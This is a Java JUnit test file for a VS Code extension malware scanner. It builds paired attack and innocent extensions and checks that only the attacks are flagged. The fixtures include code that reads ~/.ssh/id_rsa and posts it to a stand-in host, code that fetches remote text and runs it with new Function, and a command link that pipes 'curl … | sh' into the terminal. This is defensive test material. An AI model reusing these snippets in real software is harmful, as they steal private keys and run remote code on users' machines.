package dev.vsxray.scanner.corpus;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import dev.vsxray.scanner.Signatures;
import dev.vsxray.scanner.analysis.PackageAnalyzer;
import dev.vsxray.scanner.match.RuleMatcher;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

/**
 * What can be taken, how it can be sent, how code can be brought and how it can be run, what can be done besides and by way of a page, and where in
 * an extension all that can stand, one small extension for each way: it is accused, and the same without the one thing that makes it an attack is not.
 */
class WaysOfAttackTest {

    private static final String MANIFEST = """
            {"publisher": "acme", "name": "way", "version": "1.0.0", "main": "./extension.js",
             "engines": {"vscode": "^1.90.0"}, "activationEvents": ["onStartupFinished"]}
            """;

    private static final String MODULES = """
            const vscode = require('vscode'), https = require('https'), fs = require('fs'), os = require('os');
            const path = require('path'), cp = require('child_process');
            """;

    private static final String POSTS = """
            function post(data) {
              const request = https.request({ hostname: 'far.example', method: 'POST', path: '/u' });
              request.end(typeof data === 'string' ? data : JSON.stringify(data));
            }
            """;

    private static final String COUNTS = "function post(data) { console.log(String(data).length); }\n";

    private static final String FETCHED = "const t = await (await fetch('https://far.example/s')).text();\n";

    private static final String OWN = "const t = '1';\n";

    private final PackageAnalyzer analyzer;
    private final RuleMatcher matcher;

    @TempDir
    private Path scratch;

    WaysOfAttackTest() {
        Signatures signatures = Signatures.load(List.of());
        this.analyzer = signatures.analyzer();
        this.matcher = signatures.matcher();
    }

    @TestFactory
    Stream<DynamicTest> sources() throws IOException {
        return ways("sources")
                .map(way -> tell(way, MODULES + POSTS + atStart(way.in()), MODULES + COUNTS + atStart(way.in())));
    }

    @TestFactory
    Stream<DynamicTest> senders() throws IOException {
        return ways("senders")
                .map(way -> tell(
                        way,
                        MODULES + way.before() + onSaving("d.getText()", way.in()),
                        MODULES + way.before() + onSaving("'plain'", way.in())));
    }

    @TestFactory
    Stream<DynamicTest> loaders() throws IOException {
        return ways("loaders")
                .map(way -> tell(way, MODULES + atStart(FETCHED + way.in()), MODULES + atStart(OWN + way.in())));
    }

    @TestFactory
    Stream<DynamicTest> bringers() throws IOException {
        return ways("bringers")
                .map(way -> tell(
                        way,
                        MODULES + atStart(way.in().replace("RUN(x)", "new Function('require', x)(require)")),
                        MODULES + atStart(way.in().replace("RUN(x)", "console.log(x)"))));
    }

    @TestFactory
    Stream<DynamicTest> acts() throws IOException {
        return ways("acts").map(way -> tell(way, MODULES + atStart(way.in()), MODULES + onRequest(way.in())));
    }

    @TestFactory
    Stream<DynamicTest> places() throws IOException {
        return entries("places")
                .map(place -> dynamicTest((String) place.get("name"), () -> {
                    assertThat(isAccused(files(place, "attack"))).as("attack").isTrue();
                    assertThat(isAccused(files(place, "innocent")))
                            .as("innocent")
                            .isFalse();
                }));
    }

    @TestFactory
    Stream<DynamicTest> pages() throws IOException {
        return entries("pages")
                .map(way -> dynamicTest((String) way.get("name"), () -> {
                    assertThat(isAccused(pageOf(way, Map.of()))).as("attack").isTrue();
                    assertThat(isAccused(pageOf(way, files(way, "instead"))))
                            .as("innocent")
                            .isFalse();
                }));
    }

    /** A page that a command opens, where {@code instead} replaces what of it is named there. */
    private static Map<String, String> pageOf(Map<String, Object> way, Map<String, String> instead) {
        String page = instead.getOrDefault("page", (String) way.get("page"));
        String host = instead.getOrDefault("host", (String) way.get("host"));
        String program = MODULES + "exports.activate = ctx => vscode.commands.registerCommand('way.go', async () => {\n"
                + "const panel = vscode.window.createWebviewPanel('way', 'Way', 1, { enableScripts: true });\n"
                + "panel.webview.html = `" + page + "`;\n" + host + "\n});\n";
        return Map.of("package.json", MANIFEST, "extension.js", program);
    }

    @Test
    void a_broken_link_hides_none_behind_it() throws IOException {
        String typed = "command:workbench.action.terminal.sendSequence?";
        String links = "[a](" + typed + "%zz) [b](" + typed + "curl%20-s%20https%3A%2F%2Ffar.example%2Fa%20%7C%20sh)";
        String manifest = MANIFEST.replaceFirst(
                "\\{", "{\"contributes\": {\"viewsWelcome\": [{\"view\": \"v\", \"contents\": \"" + links + "\"}]}, ");

        assertThat(isAccused(Map.of("package.json", manifest, "extension.js", atStart(""))))
                .isTrue();
    }

    @Test
    void an_update_without_a_name_hides_nothing_behind_it() throws IOException {
        String program = MODULES
                + POSTS
                + atStart("vscode.workspace.getConfiguration('a').update();\n"
                        + "post(fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));");

        assertThat(isAccused(Map.of("package.json", MANIFEST, "extension.js", program)))
                .isTrue();
    }

    private static String atStart(String body) {
        return "exports.activate = async ctx => {\n" + body + "\n};\n";
    }

    private static String onRequest(String body) {
        return "exports.activate = ctx => vscode.commands.registerCommand('way.go', async () => {\n"
                + "if (await vscode.window.showWarningMessage('Do it?', 'Yes') !== 'Yes') return;\n" + body + "\n});\n";
    }

    private static String onSaving(String text, String body) {
        return "exports.activate = ctx => ctx.subscriptions.push(vscode.workspace.onDidSaveTextDocument(async d => {\n"
                + "const t = " + text + ";\n" + body + "\n}));\n";
    }

    private DynamicTest tell(Way way, String attack, String innocent) {
        return dynamicTest(way.name(), () -> {
            assertThat(isAccused(Map.of("package.json", MANIFEST, "extension.js", attack)))
                    .as("attack")
                    .isTrue();
            assertThat(isAccused(Map.of("package.json", MANIFEST, "extension.js", innocent)))
                    .as("innocent")
                    .isEqualTo(way.alone());
        });
    }

    private boolean isAccused(Map<String, String> files) throws IOException {
        Path folder = Files.createTempDirectory(scratch, "way");
        for (Map.Entry<String, String> file : files.entrySet()) {
            Path path = folder.resolve(file.getKey());
            Files.createDirectories(path.getParent());
            Files.writeString(path, file.getValue());
        }
        return DetectionRates.isAlarm(folder, analyzer, matcher);
    }

    private static Stream<Way> ways(String kind) throws IOException {
        return entries(kind)
                .map(entry -> new Way(
                        (String) entry.get("name"),
                        Boolean.TRUE.equals(entry.get("alone")),
                        (String) entry.getOrDefault("before", ""),
                        (String) entry.get("in")));
    }

    @SuppressWarnings("unchecked") // See the files beside the test.
    private static Map<String, String> files(Map<String, Object> place, String kind) {
        return (Map<String, String>) place.get(kind);
    }

    @SuppressWarnings("unchecked") // The files beside the test hold lists of maps.
    private static Stream<Map<String, Object>> entries(String kind) throws IOException {
        try (InputStream file = WaysOfAttackTest.class.getResourceAsStream(kind + ".yaml")) {
            var list =
                    (List<Map<String, Object>>) new Load(LoadSettings.builder().build()).loadFromInputStream(file);
            return list.stream();
        }
    }

    /** @param alone whether it is an alarm even without what makes the others one */
    private record Way(String name, boolean alone, String before, String in) {}
}
